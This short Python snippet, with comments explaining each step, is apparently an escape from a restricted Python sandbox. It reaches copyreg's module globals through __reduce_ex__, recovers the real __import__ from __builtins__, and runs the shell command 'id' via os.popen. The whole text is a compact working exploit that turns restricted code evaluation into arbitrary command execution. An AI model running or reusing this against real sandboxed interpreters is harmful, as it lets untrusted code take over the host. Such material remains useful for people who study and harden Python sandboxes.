# __reduce_ex__(2) hands back copyreg.__newobj__, a pure-Python function.
# Its __globals__ is copyreg's module dict, which carries a full
# __builtins__ dict with the real __import__.
Z = type('Z', (), {})
fn = Z().__reduce_ex__(2)[0]
bi = fn.__globals__['__builtins__']
imp = bi['__import__'] if isinstance(bi, dict) else bi.__import__
print(imp('os').popen('id').read())
